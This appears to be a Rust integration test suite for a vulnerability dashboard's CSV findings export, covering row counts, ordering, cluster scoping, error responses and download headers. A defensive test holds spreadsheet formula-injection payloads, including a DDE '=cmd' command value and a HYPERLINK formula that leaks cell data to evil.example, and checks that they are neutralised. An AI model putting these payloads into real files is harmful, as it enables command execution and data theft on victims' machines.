//! `GET /findings.csv` over real HTTP: the same rows as the explorer counts, in its order;
//! cells escaped for spreadsheets; scope, refusals and headers.

use app::model::Role;
use http::StatusCode;
use serde_json::Value;
use sqlx::PgPool;

use crate::helpers::{Response, TestApp, trivy_image_report};

/// alpha: 70 vulnerabilities on one image (the first 6 critical, the next 14 high, the rest
/// medium; two in KEV, one with an EPSS score); bravo: 3, all low. Risks are distinct, so the
/// explorer's order is one order.
async fn fleet(app: &TestApp) {
    let alpha = app.token("trivy-alpha", Some("alpha")).await;
    let bravo = app.token("trivy-bravo", Some("bravo")).await;
    let packages = ["openssl", "zlib", "curl", "bash", "libxml2"];
    let many: Vec<(String, String, String)> = (0..70)
        .map(|i| {
            (
                format!("CVE-2024-{:04}", 1000 + i),
                packages[i % packages.len()].to_owned(),
                format!("1.{i}"),
            )
        })
        .collect();
    let many: Vec<(&str, &str, &str)> = many
        .iter()
        .map(|(a, b, c)| (a.as_str(), b.as_str(), c.as_str()))
        .collect();
    let a = trivy_image_report("acme/alpha:1", "2026-11-01T00:00:00Z", &many);
    let b = trivy_image_report(
        "acme/bravo:1",
        "2026-11-01T00:00:00Z",
        &[
            ("CVE-2024-2001", "bash", "5.1"),
            ("CVE-2024-2002", "openssl", "3.0"),
            ("CVE-2024-2003", "zlib", "1.0"),
        ],
    );
    assert_eq!(
        app.ingest("trivy", &alpha, a).await.status,
        StatusCode::CREATED
    );
    assert_eq!(
        app.ingest("trivy", &bravo, b).await.status,
        StatusCode::CREATED
    );
    sqlx::query(
        "update finding set severity = case
             when vulnerability_id < 'CVE-2024-1006' then 4
             when vulnerability_id < 'CVE-2024-1020' then 3
             when vulnerability_id like 'CVE-2024-10%' then 2
             else 1 end,
           risk_score = (substr(vulnerability_id, 10)::int * 7) % 97",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    sqlx::query(
        "insert into intel_epss (cve_id, score, percentile) values ('CVE-2024-1003', 0.25, 0.9)",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let mut conn = app.pool.acquire().await.unwrap();
    let entry = |id: &str| server::domain::intel::KevEntry {
        cve_id: id.to_owned(),
        vendor: None,
        product: None,
        name: None,
        date_added: chrono::NaiveDate::from_ymd_opt(2026, 10, 1).unwrap(),
        due_date: None,
        ransomware_use: None,
        notes: None,
    };
    server::db::intel::upsert_kev(
        &mut conn,
        &server::domain::intel::KevCatalog {
            version: Some("test".to_owned()),
            entries: vec![entry("CVE-2024-1003"), entry("CVE-2024-1030")],
            warnings: Vec::new(),
        },
    )
    .await
    .unwrap();
}

/// The explorer's answer for `query` (the page's query string).
async fn explore(app: &TestApp, cookie: &str, query: &str) -> Value {
    let body = query
        .split('&')
        .filter(|p| !p.is_empty())
        .map(|p| {
            let (k, v) = p.split_once('=').unwrap();
            format!("filter%5B{k}%5D={v}")
        })
        .collect::<Vec<_>>()
        .join("&");
    let response = app.rpc_as(cookie, "/rpc/findings/list", &body).await;
    assert_eq!(
        response.status,
        StatusCode::OK,
        "{query}: {}",
        response.text()
    );
    response.json()
}

/// The export's records, header first; fails on anything that is not a CSV download.
fn records(response: &Response) -> Vec<Vec<String>> {
    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
    assert_eq!(
        response.header("content-type"),
        Some("text/csv; charset=utf-8")
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(response.body.as_slice());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        rows.first().map(|h| h.join(",")).as_deref(),
        Some(server::export::COLUMNS.join(",").as_str())
    );
    rows
}

/// The column named `name` of every data row.
fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let at = server::export::COLUMNS
        .iter()
        .position(|c| *c == name)
        .unwrap();
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn the_export_has_every_row_the_explorer_counts_in_its_order(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    fleet(&app).await;
    let analyst = app.session(Role::Analyst).await;
    let mut totals = Vec::new();
    for query in [
        "",
        "severity=critical",
        "severity=medium&kev=yes",
        "cluster=bravo",
        "q=openssl",
        "kind=vulnerability&fix=yes",
        "status=fixed",
        "sort=severity",
        "sort=first_seen&q=zlib",
    ] {
        let list = explore(&app, &analyst, query).await;
        let total = list["total"].as_i64().unwrap();
        let rows = records(
            &app.get_as(&analyst, &format!("/findings.csv?{query}"))
                .await,
        );
        assert_eq!(
            i64::try_from(rows.len() - 1).unwrap(),
            total,
            "{query}: {} rows where the explorer counts {total}",
            rows.len() - 1
        );
        // the explorer's first page is the export's first rows, in the same order
        let page: Vec<String> = list["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| format!("/findings/{}/{}", r["cluster_id"], r["id"]))
            .collect();
        let links = column(&rows, "link");
        assert_eq!(links[..page.len()], page[..], "{query}");
        // every finding once
        let unique: std::collections::HashSet<&String> = links.iter().collect();
        assert_eq!(unique.len(), links.len(), "{query}");
        totals.push(total);
    }
    assert_eq!(
        totals[0], 73,
        "more than one page of the explorer: {totals:?}"
    );
    assert!(totals.contains(&0), "an empty selection is tried");
    // grouping and the page position are the page's, not the export's
    let grouped = records(
        &app.get_as(&analyst, "/findings.csv?group=image&after=10.1.1.1")
            .await,
    );
    assert_eq!(grouped.len() - 1, 73);
    // the findings' cells
    let critical = records(
        &app.get_as(&analyst, "/findings.csv?severity=critical")
            .await,
    );
    assert!(
        column(&critical, "severity")
            .iter()
            .all(|s| s == "critical"),
        "{critical:?}"
    );
    let kev = column(&critical, "kev");
    let vulnerability = column(&critical, "vulnerability");
    let at = vulnerability
        .iter()
        .position(|v| v == "CVE-2024-1003")
        .unwrap();
    assert_eq!(kev[at], "yes");
    assert_eq!(kev.iter().filter(|k| *k == "yes").count(), 1, "{kev:?}");
    assert_eq!(column(&critical, "epss")[at], "0.25");
    assert_eq!(column(&critical, "package")[at], "bash");
    assert_eq!(column(&critical, "installed_version")[at], "1.3");
    assert_eq!(column(&critical, "fixed_version")[at], "99.0");
    assert_eq!(column(&critical, "image")[at], "acme/alpha:1");
    assert_eq!(column(&critical, "cluster")[at], "alpha");
    assert_eq!(column(&critical, "status")[at], "open");
    assert_eq!(column(&critical, "kind")[at], "vulnerability");
    assert_eq!(column(&critical, "risk")[at], ((1003 * 7) % 97).to_string());
    let first_seen = &column(&critical, "first_seen")[at];
    assert!(
        chrono::DateTime::parse_from_rfc3339(first_seen).is_ok() && first_seen.ends_with('Z'),
        "{first_seen}"
    );
    let (cluster_id, id): (i64, i64) = sqlx::query_as(
        "select cluster_id, id from finding where vulnerability_id = 'CVE-2024-1003'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(
        column(&critical, "link")[at],
        format!("/findings/{cluster_id}/{id}")
    );
    assert_eq!(
        column(&critical, "finding_id")[at],
        id.to_string(),
        "{critical:?}"
    );
}

/// A Trivy report whose findings carry `titles` (one vulnerability each).
fn report_with_titles(titles: &[&str]) -> String {
    let vulns: Vec<Value> = titles
        .iter()
        .enumerate()
        .map(|(i, title)| {
            serde_json::json!({
                "VulnerabilityID": format!("CVE-2025-{:04}", 100 + i),
                "PkgName": "=cmd|' /C calc'!A0",
                "InstalledVersion": "1.0",
                "FixedVersion": "1.1",
                "Severity": "CRITICAL",
                "Title": title,
            })
        })
        .collect();
    serde_json::json!({
        "SchemaVersion": 2,
        "CreatedAt": "2026-11-01T00:00:00Z",
        "ArtifactName": "acme/odd:1",
        "ArtifactType": "container_image",
        "Metadata": {"OS": {"Family": "debian", "Name": "12.4"}},
        "Results": [{"Target": "acme/odd:1 (debian 12.4)", "Class": "os-pkgs", "Type": "debian",
                     "Vulnerabilities": vulns}],
    })
    .to_string()
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn cells_a_spreadsheet_would_run_are_neutralised_and_text_survives(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let token = app.token("trivy-odd", Some("odd")).await;
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\tindented",
        "said \"hi\", then left\nand came back\r\nlater",
        "Grüße aus Köln — 日本語 ✓",
        "plain, with a comma",
    ];
    let response = app
        .ingest("trivy", &token, report_with_titles(&titles))
        .await;
    assert_eq!(response.status, StatusCode::CREATED, "{}", response.text());
    let executive = app.session(Role::Executive).await;
    let response = app.get_as(&executive, "/findings.csv?q=CVE-2025").await;
    let rows = records(&response);
    assert_eq!(rows.len() - 1, titles.len());
    let mut got = column(&rows, "title");
    got.sort();
    let mut want: Vec<String> = titles
        .iter()
        .map(|t| {
            if t.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                format!("'{t}")
            } else {
                (*t).to_owned()
            }
        })
        .collect();
    want.sort();
    assert_eq!(got, want);
    assert!(
        column(&rows, "package")
            .iter()
            .all(|p| p == "'=cmd|' /C calc'!A0"),
        "{rows:?}"
    );
    // the bytes themselves: quotes doubled, quoted where needed, CRLF line ends, UTF-8 kept
    let text = response.text();
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
        "{text}"
    );
    assert!(
        text.contains("\"said \"\"hi\"\", then left\nand came back\r\nlater\""),
        "{text}"
    );
    assert!(text.contains(",Grüße aus Köln — 日本語 ✓,"), "{text}");
    assert!(text.contains(",\"plain, with a comma\","), "{text}");
    assert!(text.starts_with("cluster,finding_id,risk,"), "{text}");
    assert!(text.ends_with("\r\n"), "{text}");
    // no cell anywhere starts a formula
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn a_scoped_analyst_exports_only_their_cluster_and_bad_filters_are_refused(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    fleet(&app).await;
    let scoped = app
        .limited_session("bravo-analyst@example.com", Role::Analyst, "bravo")
        .await;
    let mine = records(&app.get_as(&scoped, "/findings.csv").await);
    assert_eq!(mine.len() - 1, 3, "{mine:?}");
    assert!(column(&mine, "cluster").iter().all(|c| c == "bravo"));
    assert_eq!(
        i64::try_from(mine.len() - 1).unwrap(),
        explore(&app, &scoped, "").await["total"].as_i64().unwrap()
    );
    assert_eq!(
        records(&app.get_as(&scoped, "/findings.csv?q=CVE-2024-1000").await).len(),
        1,
        "another cluster's vulnerability is not found"
    );
    assert_eq!(
        records(&app.get_as(&scoped, "/findings.csv?provider=aws").await).len() - 1,
        explore(&app, &scoped, "provider=aws").await["total"]
            .as_i64()
            .map(|t| usize::try_from(t).unwrap())
            .unwrap()
    );
    // another cluster is not found, whether it exists or not
    for name in ["alpha", "nowhere"] {
        let other = app
            .get_as(&scoped, &format!("/findings.csv?cluster={name}"))
            .await;
        assert_eq!(other.status, StatusCode::NOT_FOUND, "{}", other.text());
        assert_eq!(
            other.header("content-type"),
            Some("application/problem+json")
        );
    }
    // a value the filter does not take: a 400 problem that names it
    for (query, named) in [
        ("kind=bogus", "bogus"),
        ("severity=catastrophic", "catastrophic"),
        ("sort=random", "random"),
        ("kev=maybe", "maybe"),
        ("severity=high&severity=low", "severity"),
    ] {
        let bad = app.get_as(&scoped, &format!("/findings.csv?{query}")).await;
        assert_eq!(
            bad.status,
            StatusCode::BAD_REQUEST,
            "{query}: {}",
            bad.text()
        );
        assert_eq!(
            bad.header("content-type"),
            Some("application/problem+json"),
            "{query}"
        );
        assert!(bad.text().contains(named), "{query}: {}", bad.text());
    }
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn the_download_is_named_uncached_and_for_signed_in_users_only(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    fleet(&app).await;
    let executive = app.session(Role::Executive).await;
    let response = app.get_as(&executive, "/findings.csv").await;
    assert_eq!(records(&response).len() - 1, 73);
    let today = chrono::Utc::now().format("%Y-%m-%d");
    assert_eq!(
        response.header("content-disposition"),
        Some(format!("attachment; filename=\"bulwark-findings-{today}.csv\"").as_str())
    );
    assert_eq!(response.header("cache-control"), Some("no-store"));
    // anonymous: refused as the audit log's CSV is, never a file
    let anonymous = app.get("/findings.csv").await;
    let audit = app.get("/audit.csv").await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    assert_eq!(anonymous.status, audit.status);
    assert_eq!(
        anonymous.header("content-type"),
        audit.header("content-type")
    );
    assert!(!anonymous.text().contains("CVE-"), "{}", anonymous.text());
    // an API token is not a session
    let token = app.token("reader", None).await;
    let bearer = format!("Bearer {token}");
    let with_token = app
        .request(
            "GET",
            "/findings.csv",
            &[("authorization", bearer.as_str())],
            Vec::new(),
        )
        .await;
    assert!(
        matches!(
            with_token.status,
            StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN
        ),
        "{}",
        with_token.status
    );
    assert!(!with_token.text().contains("CVE-"));
}
